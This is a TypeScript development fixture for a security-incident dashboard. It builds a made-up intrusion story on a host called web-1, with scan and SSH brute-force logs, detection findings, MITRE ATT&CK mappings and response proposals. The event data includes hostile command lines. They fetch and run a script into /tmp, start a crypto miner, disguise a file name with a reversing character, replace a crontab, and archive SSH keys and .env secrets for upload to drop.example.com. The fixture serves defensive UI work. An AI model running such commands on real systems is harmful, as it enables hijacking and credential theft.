import { createHash } from "node:crypto";
import type {
  Attack,
  Entity,
  EventDetail,
  Finding,
  IncidentDetail,
  IncidentGraph,
  Proposal,
} from "../src/api/types.ts";

/**
 * Development fixture: an attack story for working on the screens without a server. Shown only by
 * `vite dev` and the screenshot script; no file of `src` imports it.
 */
export const start = Date.now() - 47 * 60_000;
const attacker = "203.0.113.66";
const bidi = "invoice\u202Egnp.exe";

const ent = (kind: string, label: string, role: Entity["role"]): Entity => ({
  kind,
  key: label.toLowerCase(),
  label,
  role,
});
const attack = (tactic: [string, string], technique: [string, string]): Attack => ({
  tactic: { uid: tactic[0], name: tactic[1] },
  technique: { uid: technique[0], name: technique[1] },
});

interface Line {
  readonly at: number;
  readonly message: string;
  readonly className: string;
  readonly activity: string;
  readonly severity: number;
  readonly user?: string;
  readonly src?: string;
  readonly process?: string;
  readonly commandLine?: string;
  readonly decoder: string;
}

const users = ["root", "admin", "deploy", "postgres", "ubuntu"];
const lines: Line[] = [];
for (let index = 0; index < 40; index += 1)
  lines.push({
    at: index * 900,
    message: `SYN to port ${20 + index * 17} from ${attacker} dropped`,
    className: "Network Activity",
    activity: "Refuse",
    severity: 1,
    src: attacker,
    decoder: "linux-netfilter",
  });
for (let index = 0; index < 180; index += 1)
  lines.push({
    at: 240_000 + index * 1700,
    message: `Failed password for ${users[index % 5]} from ${attacker} port ${40_000 + index} ssh2`,
    className: "Authentication",
    activity: "Logon",
    severity: 2,
    user: users[index % 5] ?? "root",
    src: attacker,
    decoder: "openssh-sshd",
  });
lines.push({
  at: 560_000,
  message: `Accepted password for deploy from ${attacker} port 40311 ssh2`,
  className: "Authentication",
  activity: "Logon",
  severity: 1,
  user: "deploy",
  src: attacker,
  decoder: "openssh-sshd",
});
const commands = [
  [610_000, "curl -fsSL http://198.51.100.23/x.sh -o /tmp/.x", "curl"],
  [631_000, "chmod +x /tmp/.x", "chmod"],
  [640_000, "/tmp/.x --donate-level 0 -o pool.example.net:4444", ".x"],
  [720_000, `cp /tmp/.x /usr/local/bin/${bidi}`, "cp"],
  [735_000, "crontab - < /tmp/.c", "crontab"],
  [1_340_000, "tar czf /tmp/d.tgz /srv/app/.env /home/deploy/.ssh", "tar"],
  [1_390_000, "curl -T /tmp/d.tgz https://drop.example.com/u/4b1e", "curl"],
] as const;
for (const [at, commandLine, process] of commands)
  lines.push({
    at,
    message: `EXECVE ${commandLine}`,
    className: "Process Activity",
    activity: "Launch",
    severity: 1,
    user: "deploy",
    process,
    commandLine,
    decoder: "linux-auditd",
  });

const sha = (text: string) => createHash("sha256").update(text).digest("hex");

export const storyEvents: readonly EventDetail[] = lines.map((line, index) => {
  const time = start + line.at;
  const raw = `<38>${new Date(time).toISOString()} web-1 ${line.decoder}[4242]: ${line.message}`;
  return {
    id: `ev-story-${index}`,
    time,
    receivedTime: time + 40,
    committedTime: time + 75,
    position: index,
    classUid: 3002,
    className: line.className,
    activityName: line.activity,
    severity: line.severity,
    status: line.message.startsWith("Failed") ? "Failure" : "Success",
    decoder: line.decoder,
    sourceId: "src-web1",
    device: "web-1",
    ...(line.user === undefined ? {} : { user: line.user }),
    ...(line.src === undefined ? {} : { srcIp: line.src, srcPort: 40_000 + index }),
    ...(line.process === undefined ? {} : { process: line.process }),
    ...(line.commandLine === undefined ? {} : { commandLine: line.commandLine }),
    message: line.message,
    flags: index % 60 === 3 ? ["zone-assumed"] : [],
    ocsf: {
      class_uid: 3002,
      activity_name: line.activity,
      time,
      metadata: { version: "1.5.0", product: { name: line.decoder } },
      device: { hostname: "web-1", ip: "192.0.2.10" },
      user: { name: line.user ?? null },
      unmapped: { __proto: "plain data", note: line.message },
    },
    raw: {
      text: raw,
      base64: Buffer.from(raw).toString("base64"),
      size: Buffer.byteLength(raw),
      sha256: sha(raw),
    },
    origin: { transport: "syslog-tcp", peer: "192.0.2.10" },
    findings: [],
  };
});

const credential: [string, string] = ["TA0006", "Credential Access"];
const rows: readonly [number, string, string, number, Attack, number, string][] = [
  [
    20_000,
    "Many ports probed from one address",
    "r-scan",
    2,
    attack(["TA0043", "Reconnaissance"], ["T1595", "Active Scanning"]),
    40,
    "40 ports in 36 s from 203.0.113.66",
  ],
  [
    300_000,
    "SSH password guessing",
    "r-brute",
    3,
    attack(credential, ["T1110", "Brute Force"]),
    60,
    "60 failed logins for 5 users from 203.0.113.66",
  ],
  [
    400_000,
    "SSH password guessing",
    "r-brute",
    3,
    attack(credential, ["T1110", "Brute Force"]),
    60,
    "60 failed logins for 5 users from 203.0.113.66",
  ],
  [
    505_000,
    "SSH password guessing",
    "r-brute",
    3,
    attack(credential, ["T1110", "Brute Force"]),
    60,
    "60 failed logins for 5 users from 203.0.113.66",
  ],
  [
    560_000,
    "Login after many failures",
    "r-success",
    5,
    attack(["TA0001", "Initial Access"], ["T1078", "Valid Accounts"]),
    181,
    "deploy logged in from 203.0.113.66 after 180 failures",
  ],
  [
    610_000,
    "Program fetched to a temporary folder",
    "r-fetch",
    4,
    attack(["TA0011", "Command and Control"], ["T1105", "Ingress Tool Transfer"]),
    1,
    "curl wrote /tmp/.x from 198.51.100.23",
  ],
  [
    640_000,
    "Hidden program started from /tmp",
    "r-hidden",
    4,
    attack(["TA0002", "Execution"], ["T1059", "Command and Scripting Interpreter"]),
    1,
    "/tmp/.x started by deploy",
  ],
  [
    641_000,
    "Miner command line",
    "r-miner",
    5,
    attack(["TA0040", "Impact"], ["T1496", "Resource Hijacking"]),
    1,
    "donate-level on the command line, pool.example.net:4444",
  ],
  [
    720_000,
    "Name with a reversing character",
    "r-rlo",
    4,
    attack(["TA0005", "Stealth"], ["T1036", "Masquerading"]),
    1,
    `file named ${bidi}`,
  ],
  [
    735_000,
    "Crontab replaced from a file",
    "r-cron",
    4,
    attack(["TA0003", "Persistence"], ["T1053", "Scheduled Task/Job"]),
    1,
    "crontab of deploy replaced",
  ],
  [
    1_340_000,
    "Keys and secrets packed into an archive",
    "r-pack",
    4,
    attack(["TA0009", "Collection"], ["T1560", "Archive Collected Data"]),
    1,
    "tar read /home/deploy/.ssh",
  ],
  [
    1_390_000,
    "Archive uploaded to an unknown host",
    "r-exfil",
    5,
    attack(["TA0010", "Exfiltration"], ["T1048", "Exfiltration Over Alternative Protocol"]),
    1,
    "curl -T /tmp/d.tgz to drop.example.com",
  ],
];

const entities: readonly Entity[] = [
  ent("address", attacker, "source"),
  ent("device", "web-1", "target"),
  ent("user", "deploy", "target"),
  ent("process", "/tmp/.x", "related"),
  ent("address", "198.51.100.23", "source"),
  ent("domain", "pool.example.net", "source"),
  ent("domain", "drop.example.com", "source"),
  ent("file", `/usr/local/bin/${bidi}`, "related"),
];

const eventsUntil = (at: number, count: number): string[] =>
  storyEvents
    .filter((event) => event.time <= start + at)
    .slice(-Math.min(count, 100))
    .map((event) => event.id);

export const storyFindings: readonly Finding[] = rows.map(
  ([at, title, ruleId, severity, technique, eventCount, summary], index) => ({
    id: `fi-${index}`,
    ruleId,
    ruleVersion: "3f2a91",
    title,
    summary,
    kind: eventCount > 1 ? "correlation" : "rule",
    severity,
    phase: severity >= 4 ? "effect" : "attempt",
    time: start + at,
    firstEventTime: start + Math.max(0, at - (eventCount > 1 ? 36_000 : 0)),
    lastEventTime: start + at,
    eventIds: eventsUntil(at, eventCount),
    eventCount,
    attacks: [technique],
    entities: index < 5 ? entities.slice(0, 3) : entities.slice(1, 5),
    group: {},
    createdTime: start + at + 800,
  }),
);

const ids = (...indexes: number[]) => indexes.map((index) => `fi-${index}`);
const step = (index: number, last: number, sentence: string) => {
  const first = storyFindings[index];
  const tactic = first?.attacks[0]?.tactic;
  return {
    time: first?.time ?? start,
    lastTime: storyFindings[last]?.time ?? start,
    ...(tactic === undefined ? {} : { tacticUid: tactic.uid, tacticName: tactic.name }),
    sentence,
    severity: first?.severity ?? 1,
    findingIds: ids(...Array.from({ length: last - index + 1 }, (_, at) => index + at)),
  };
};

const proposals: readonly Proposal[] = [
  {
    action: "isolate-device",
    title: "Isolate web-1 from the network",
    countermeasure: "D3-NI",
    target: "web-1",
    ...{ targetKind: "device", targetKey: "web-1" },
    because: "A program that it fetched is running, and data left it.",
    reversal: "The agent lifts the isolation by itself after 4 hours, or at once when asked.",
    executor: "none",
    decision: {
      effect: "require_approval",
      reasons: ["Isolation of a device of class “production” needs two responders."],
    },
  },
  {
    action: "evict-session",
    title: "End the session of deploy and lock the account",
    countermeasure: "D3-ST",
    target: "deploy",
    ...{ targetKind: "user", targetKey: "web-1\\deploy" },
    because: "deploy logged in from an address that had guessed passwords 180 times.",
    reversal: "Unlocking gives the account back; ended sessions stay ended.",
    executor: "none",
    decision: { effect: "allow", reasons: ["deploy is not a protected account."] },
  },
  {
    action: "block-address",
    title: "Block the address at the edge",
    countermeasure: "D3-NTF",
    target: attacker,
    ...{ targetKind: "address", targetKey: attacker },
    because: "It scanned, guessed and logged in.",
    reversal: "The block ends by itself after 24 hours.",
    executor: "none",
    decision: {
      effect: "deny",
      reasons: ["203.0.113.0/24 is on the never-block list (partner network)."],
    },
  },
];

export const storyIncident: IncidentDetail = {
  id: "in-ssh-intrusion",
  title: "Intrusion on web-1: guessed SSH password, miner, data sent out",
  status: "new",
  severity: 5,
  score: 92,
  tactics: [
    ...new Map(
      rows.flatMap(([, , , , a]) => (a.tactic ? [[a.tactic.uid, a.tactic]] : [])),
    ).values(),
  ],
  entities: entities.slice(0, 5),
  findingCount: storyFindings.length,
  eventCount: storyEvents.length,
  firstSeen: start,
  lastSeen: start + 1_390_000,
  createdTime: start + 21_000,
  updatedTime: start + 1_391_000,
  revision: 12,
  scoreParts: [
    { code: "severity", label: "Three critical findings", points: 40, findingIds: ids(4, 7, 11) },
    {
      code: "chain",
      label: "A login succeeded after 180 failures",
      points: 22,
      findingIds: ids(1, 4),
    },
    { code: "tactics", label: "Nine tactics, up to exfiltration", points: 18, findingIds: ids(11) },
    {
      code: "effect",
      label: "Eight findings show effects on the device",
      points: 12,
      findingIds: ids(5),
    },
  ],
  story: [
    step(0, 0, `${attacker} probed 40 ports of web-1.`),
    step(1, 3, `${attacker} failed to log in to web-1 180 times as 5 users.`),
    step(4, 4, `${attacker} logged in to web-1 as deploy.`),
    step(5, 5, "deploy fetched /tmp/.x from 198.51.100.23."),
    step(6, 7, "deploy started /tmp/.x, a miner that talks to pool.example.net."),
    step(8, 8, `deploy copied it to /usr/local/bin/${bidi}.`),
    step(9, 9, "deploy replaced its crontab."),
    step(10, 11, "deploy packed keys and secrets and sent them to drop.example.com."),
  ],
  attacks: rows.map(([, , , , technique]) => technique),
  allEntities: [...entities],
  findings: [...storyFindings],
  notes: [
    {
      id: "n1",
      authorName: "Mira Novak",
      text: "Called the owner of deploy: not her.\nSnapshot of the disk is being made.",
      createdTime: start + 1_500_000,
    },
  ],
  proposals: [...proposals],
};

const node = (entity: Entity | undefined, severity: number, ...indexes: number[]) => ({
  id: `${entity?.kind}:${entity?.key}`,
  kind: entity?.kind ?? "",
  label: entity?.label ?? "",
  role: entity?.role ?? "related",
  severity,
  findingIds: ids(...indexes),
});
const nodes = [
  node(entities[0], 5, 0, 1, 2, 3, 4),
  node(entities[1], 5, 0, 1, 2, 3, 4, 5, 6, 7),
  node(entities[2], 5, 4, 5, 6, 7, 8, 9, 10, 11),
  node(entities[3], 5, 6, 7),
  node(entities[4], 4, 5),
  node(entities[5], 5, 7),
  node(entities[6], 5, 11),
  node(entities[7], 4, 8),
];
const edge = (from: number, to: number, label: string, count: number, ...indexes: number[]) => ({
  id: `${from}-${to}-${label}`,
  from: nodes[from]?.id ?? "",
  to: nodes[to]?.id ?? "",
  label,
  count,
  firstTime: start,
  lastTime: start + 1_000_000,
  findingIds: ids(...indexes),
});
export const storyGraph: IncidentGraph = {
  nodes,
  edges: [
    edge(0, 1, "scanned", 40, 0),
    edge(0, 1, "failed to log in to", 180, 1, 2, 3),
    edge(0, 2, "logged in as", 1, 4),
    edge(1, 2, "session of", 1, 4),
    edge(2, 4, "fetched from", 1, 5),
    edge(2, 3, "started", 1, 6, 7),
    edge(3, 5, "connected to", 14, 7),
    edge(2, 7, "created", 1, 8),
    edge(2, 6, "sent data to", 1, 10, 11),
  ],
};
